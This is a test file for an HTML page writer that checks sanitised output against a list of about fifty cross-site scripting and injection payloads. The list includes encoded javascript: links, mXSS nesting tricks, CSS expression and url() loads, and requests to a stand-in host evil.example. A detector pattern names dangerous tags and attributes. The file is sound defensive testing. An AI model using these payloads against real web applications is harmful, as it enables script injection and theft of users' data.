import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { writeHtml } from '../../../../src-main/documents/writers/html.ts'

function page(content: string, title = 'Avis', language: 'fr' | 'en' = 'fr'): Promise<string> {
  return writeHtml({ title, content }, { language })
}

async function main(content: string): Promise<string> {
  const html = await page(content)
  return html.slice(html.indexOf('<main>'), html.indexOf('</main>'))
}

type Found = { name: string; attributes: Record<string, string> }

function elementsOf(html: string): Found[] {
  const found: Found[] = []
  const parser = new Parser({
    onopentag: (name, attributes) => void found.push({ name, attributes: { ...attributes } }),
  })
  parser.end(html)
  return found
}

const NEVER =
  /^(script|iframe|object|embed|applet|form|input|button|textarea|select|link|base|svg|math|video|audio|source|frame|frameset|template|noscript|marquee|portal)$/

/** What a browser would run, load, send or be sent to by. */
function dangersIn(html: string): string[] {
  return elementsOf(html).flatMap(({ name, attributes }) => {
    const dangers = NEVER.test(name) ? [name] : []
    for (const [attribute, value] of Object.entries(attributes)) {
      const plain = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
      if (
        attribute.startsWith('on') ||
        ['srcdoc', 'srcset', 'formaction', 'background', 'ping', 'action', 'poster', 'manifest'].includes(attribute)
      ) {
        dangers.push(`${name} ${attribute}`)
      }
      if (attribute === 'href' && !/^(https?|mailto|tel):/.test(plain) && !plain.startsWith('#'))
        dangers.push(`${name} ${value}`)
      if (attribute === 'src' && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(plain))
        dangers.push(`${name} ${value}`)
      if (attribute === 'style' && /url|expression|import|behavior|binding|@|\\|position|var\(/i.test(value))
        dangers.push(`style ${value}`)
      if (attribute === 'http-equiv' && value !== 'Content-Security-Policy') dangers.push(`meta ${value}`)
    }
    return dangers
  })
}

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img srcset="https://evil.example/a.png 2x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/png;base64,x" onload="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://exemple.sn" ping="https://evil.example" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=q value=1><button>Envoyer</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/p)}</style>',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<p style="background-color:red;width:expression(alert(1));position:fixed;top:0">x</p>',
  '<p style="color:\\75rl(https://evil.example)">x</p>',
  '<div style="background-image:u\\72l(\'https://evil.example\')">x</div>',
  '<body onload=alert(1)><p>x</p></body>',
  '<video poster="https://evil.example/p.png" src="x.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script><xmp><img src=x onerror=alert(1)></xmp>',
  '<title></title><img src=x onerror=alert(1)>',
  '</main></body></html><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>x</p>',
  '<table background="https://evil.example/p.png"><tr><td background="//evil.example">x</td></tr></table>',
  '![x](javascript:alert(1)) [x](javascript:alert(1)) <javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x] ![a](https://evil.example/p.png "onerror=alert(1)")',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
]

describe('a web page', () => {
  test.each(HOSTILE)('holds nothing that runs or is loaded: %s', async snippet => {
    for (const content of [
      `<p>Avant</p>${snippet}<p>Après</p>`,
      `# Avant\n\n${snippet}\n\nAprès`,
      `<!DOCTYPE html><body><p>a</p>${snippet}`,
    ]) {
      const html = await page(content, `Titre ${snippet}`.slice(0, 200))
      expect(dangersIn(html)).toEqual([])
      expect(elementsOf(html).filter(({ name }) => name === 'style')).toHaveLength(1)
      expect(elementsOf(html).filter(({ name }) => name === 'title')).toHaveLength(1)
    }
  })

  test('is refused by its own policy, should anything have been overlooked', async () => {
    const policy = elementsOf(await page('a')).find(({ attributes }) => 'http-equiv' in attributes)
    expect(policy?.attributes.content).toContain("default-src 'none'")
    expect(policy?.attributes.content).not.toContain('script')
  })

  test('stands alone: language, title, telephone, printer and its style inside', async () => {
    const html = await page('Texte.', 'Œuvres & <comptes>')
    expect(html).toMatch(/^<!DOCTYPE html>\n<html lang="fr" dir="ltr">/)
    expect(html).toContain('<title>Œuvres &amp; &lt;comptes&gt;</title>')
    expect(html).toContain('<meta charset="utf-8">')
    expect(html).toContain('width=device-width')
    for (const rule of ['@media print', '@page{size:A4', 'table-header-group', 'break-inside:avoid'])
      expect(html).toContain(rule)
    expect(/<style>[\s\S]*<\/style>/.exec(html)?.[0]).not.toMatch(/url\(|@import/)
    expect(await page('a', 'A', 'en')).toContain('<html lang="en"')
  })

  test('reads Markdown: headings, lists, tables, code, links, done and open tasks', async () => {
    const html = await main(
      '## Deux\n\n- a\n  1. b\n\n- [x] fait\n- [ ] à faire\n\n`x < y` **gras** [site](https://exemple.sn)',
    )
    for (const part of [
      '<h2>Deux</h2>',
      '<ol>',
      '☑',
      '☐',
      '<code>x &lt; y</code>',
      '<strong>gras</strong>',
      'href="https://exemple.sn"',
      'rel="noopener noreferrer"',
    ])
      expect(html).toContain(part)
  })

  test('sets amounts to the right with their header, and account numbers to the left', async () => {
    const html = await main(
      '| Compte | Poste | Solde |\n|---|---|---|\n| 411 | Clients | 1 250 000 |\n| 401 | **Total** | **(3 000)** |\n| 5 | | |',
    )
    expect(html).toContain('<th align="right">Solde</th>')
    expect(html).toContain('<th>Compte</th>')
    expect(html).toContain('<td align="right">1 250 000</td>')
    expect(await main('<table><tr><th>a</th></tr><tr><td>1 250,50 FCFA</td></tr></table>')).toContain(
      '<td class="figure">',
    )
  })

  test('ends no line in a reference or a date of a table', async () => {
    const html = await main('| Réf. | Date | Lieu |\n|---|---|---|\n| PAP-0001 | 31/03/2026 | Saint-Louis et Dakar |')
    expect(html).toContain('<td class="whole">PAP-0001</td>')
    expect(html).toContain('<td class="whole">31/03/2026</td>')
    expect(html).toContain('<td>Saint-Louis et Dakar</td>')
  })

  test('lets a wide table scroll, and prints it with its heading on a turned page', async () => {
    const row = (cells: string[]) => `| ${cells.join(' | ')} |`
    const wide = Array.from({ length: 12 }, (_, column) => `c${column}`)
    const html = await main(
      `# A\n\ntexte\n\n## Large\n\n${row(wide)}\n${row(wide.map(() => '-'))}\n${row(wide)}\n\n| a |\n|-|\n| b |`,
    )
    expect(html).toContain('<div class="scroll wide"><h2>Large</h2>')
    expect(html).toContain('<div class="scroll"><table>')
    expect(html.match(/<div/g)).toHaveLength(2)
    expect(html.match(/<\/div>/g)).toHaveLength(2)
  })

  test('reads HTML, a whole page or a piece, and Markdown that begins with a tag', async () => {
    expect(
      await main(
        '<!doctype html><html><head><title>T</title></head><body><h2>Deux</h2>\n\n    <p>pas du code</p></body></html>',
      ),
    ).toContain('<h2>Deux</h2>\n\n    <p>pas du code</p>')
    expect(await main('<p style="text-align:center;color:#333">a</p>')).toContain(
      'style="text-align:center;color:#333"',
    )
    expect(await main('<div>\n\n# Titre\n\n- a\n</div>')).toContain('<h1>Titre</h1>')
  })

  test('keeps a picture that is in the page, and names one that is elsewhere', async () => {
    const html = await main(
      `<img alt="point" src="data:image/png;base64,${PIXEL}"><img alt="Logo" src="https://exemple.sn/l.png">`,
    )
    expect(html).toContain(`src="data:image/png;base64,${PIXEL}"`)
    expect(html).toContain('[image : Logo]')
  })

  test('does not repeat a title that the content repeats', async () => {
    expect((await main('# Avis\n\nTexte.')).match(/Avis/g)).toHaveLength(1)
    expect((await main('<h1>Avis</h1><p>Texte.</p>')).match(/Avis/g)).toHaveLength(1)
    expect((await main('# Autre\n\nTexte.')).match(/<h1/g)).toHaveLength(2)
  })

  test('reads from the right when its title does', async () => {
    expect(await page('مرحبا', 'تقرير')).toContain('dir="rtl"')
  })

  test('says so when nothing is left, or when lists nest too deep', async () => {
    await expect(page('<script>alert(1)</script>')).rejects.toMatchObject({
      sentence: { fr: expect.stringContaining('Markdown'), en: expect.stringContaining('Markdown') },
    })
    await expect(page('> '.repeat(20_000))).rejects.toMatchObject({ name: 'UserError' })
  })
})
